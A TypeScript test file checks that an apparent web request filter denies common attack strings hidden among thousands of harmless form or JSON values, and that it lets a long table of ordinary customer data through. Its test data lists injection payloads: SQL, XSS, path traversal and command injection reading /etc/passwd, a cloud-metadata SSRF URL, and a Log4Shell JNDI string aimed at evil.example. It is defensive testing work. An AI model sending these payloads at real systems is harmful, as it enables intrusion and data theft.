import assert from "node:assert/strict";
import { before, describe, it } from "node:test";
import { openShippedPath, type ShippedPath } from "../../scripts/model/shipped-path.ts";

const attacks = [
  "1' or 1=1--",
  "' OR 'a'='a",
  "admin'--",
  "<img src=x onerror=alert(1)>",
  "../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  ";id",
  "| cat /etc/passwd",
  "`whoami`",
  "{{7*7}}",
  "http://169.254.169.254/latest/meta-data/",
  "*)(uid=*))(|(uid=*",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template for others than this file
  "${jndi:ldap://evil.example/a}",
];

const harmless: Record<string, (index: number) => string> = {
  numbers: (index) => `${(index * 7919) % 10_007}`,
  words: (index) => ["red", "lamp", "paid", "ok", "table", "open", "large"][(index * 5) % 7] as string,
  sentences: (index) => `thanks for the quick answer to order ${index}, the lamp has come`,
};

/** From the 511th value of a request on they are no longer kept each by itself: what stands there is judged so all the same. */
describe("an attack is denied among thousands of harmless values, too, which pass without it", () => {
  let path: ShippedPath;
  before(async () => {
    path = await openShippedPath();
  });

  async function isDenied(values: readonly string[], isForm: boolean): Promise<boolean> {
    const pairs = values.map((value, index) => [`f${index}`, value] as [string, string]);
    const type = isForm ? "application/x-www-form-urlencoded" : "application/json";
    const body = Buffer.from(isForm ? `${new URLSearchParams(pairs)}` : JSON.stringify(Object.fromEntries(pairs)));
    const headers = [["content-type", type]] as const;
    const { verdict } = await path.judge({ method: "POST", authority: "shop.example", path: "/", headers, body });
    return verdict.effect === "deny";
  }

  for (const [name, value] of Object.entries(harmless)) {
    for (const isForm of [false, true]) {
      it(`${name} in ${isForm ? "a form" : "JSON"}`, async () => {
        const values = Array.from({ length: 2500 }, (_, index) => value(index));
        assert.equal(await isDenied(values, isForm), false, "without");
        const passed: string[] = [];
        for (const [index, attack] of attacks.entries()) {
          const at = 520 + index * 150;
          if (!(await isDenied(values.toSpliced(at, 0, attack), isForm))) passed.push(attack);
        }
        assert.deepEqual(passed, []);
      });
    }
  }

  it("a table of customers, of places and of instances is no attack by its length", async () => {
    const customers = Array.from({ length: 1500 }, (_, i) => [
      `${["Anna", "Jean-Luc", "Zoë", "O'Hara"][i % 4]} ${["D'Souza", "Kowalski", "Smith-Jones"][i % 3]}`,
      `anna+shop.${i}@mail.example`,
      ["St. Gallen", "L'Aquila", "Xi'an", "Åarhus"][(i * 3) % 4] as string,
      ["Mo-Fr 08:00-18:00", "24/7", "Mo-Sa 10:00-20:00; Su off"][(i * 2) % 3] as string,
      `db.r5.${(i % 12) + 1}xlarge`,
    ]).flat();
    assert.equal(await isDenied(customers.slice(0, 5000), false), false);
  });
});
